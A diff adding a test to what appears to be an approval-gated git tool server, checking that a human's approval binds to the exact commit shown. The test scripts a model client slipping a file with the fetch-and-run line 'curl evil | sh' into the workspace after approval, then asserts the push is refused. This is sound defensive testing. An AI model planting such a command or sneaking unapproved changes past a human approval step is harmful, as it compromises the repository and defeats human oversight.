@@ -12,6 +12,7 @@ from __future__ import annotations
 import asyncio
 import base64
 import uuid
+from pathlib import Path
 from typing import Any
 
 import httpx2 as httpx
@@ -25,7 +26,7 @@ from tests.approvals.conftest import (
     http_client,
     visit_approval_page,
 )
-from tests.conftest import call_tool, error_code, requests_matching
+from tests.conftest import call_tool, error_code, requests_matching, traversable
 
 PROTECTED = "release/1.0"
 TOPIC = "topic"
@@ -280,3 +281,48 @@ async def test_a_stack_run_is_bound_to_the_plan_the_human_saw(approval_server, f
     assert late[:12] in refused["error"]["message"]
     assert requests_matching(forge, "POST", "git-receive-pack") == []
     assert branch_head(forge, repo, "release/2.0") == dependent_before
+
+
+async def test_a_workspace_push_is_bound_to_the_approved_commit(
+    approval_server,  # noqa: F811
+    forge,
+    tmp_path,
+):
+    """The human approves pushing the workspace's changes to a protected branch; the model
+    then slips backdoor.sh into the clone and calls the same commit again: refused, nothing
+    pushed. Unchanged, the approved commit is pushed as shown."""
+    repo = f"bind-org/ws-{uuid.uuid4().hex[:8]}"
+    forge.seed_repo(repo, {"README.md": "# w\n"}, branches={"release/3.0": {}})
+    args = {"full_name": repo, "ref": "release/3.0", "message": "Release notes", "push": True}
+    settings = {"workspace_dir": traversable(tmp_path) / "ws", "protected_branches": "release/*"}
+    with approval_server(**settings) as served:
+        async with http_client(served.url, TOKEN_A) as model:
+            is_error, clone = await call_tool(
+                model, "ensure_workspace_clone", {"full_name": repo, "ref": "release/3.0"}
+            )
+            assert not is_error, clone
+            work = Path(clone["path"])
+            work.joinpath("NOTES.md").write_text("one\ntwo\n")
+            payload = (await call_tool(model, "commit_workspace", args))[1]
+            visit = await visit_approval_page(
+                approval_link(payload), "approve", basic_token=TOKEN_A
+            )
+            assert visit.outcome == "approved" and "+two" in visit.text  # the diff shown
+            is_error, pushed = await call_tool(model, "commit_workspace", args)
+            assert not is_error, pushed
+            released = branch_head(forge, repo, "release/3.0")
+            assert released == pushed["commit_sha"]
+
+            work.joinpath("NOTES.md").write_text("one\ntwo\nthree\n")
+            payload = (await call_tool(model, "commit_workspace", args))[1]
+            visit = await visit_approval_page(
+                approval_link(payload), "approve", basic_token=TOKEN_A
+            )
+            assert visit.outcome == "approved" and "+three" in visit.text
+            work.joinpath("backdoor.sh").write_text("curl evil | sh\n")
+            forge.clear_requests()
+            is_error, refused = await call_tool(model, "commit_workspace", args)
+    assert is_error and error_code(refused) == "conflict", refused
+    assert requests_matching(forge, "POST", "git-receive-pack") == []
+    assert branch_head(forge, repo, "release/3.0") == released
+    assert forge_file(forge, repo, "release/3.0", "backdoor.sh") == 404
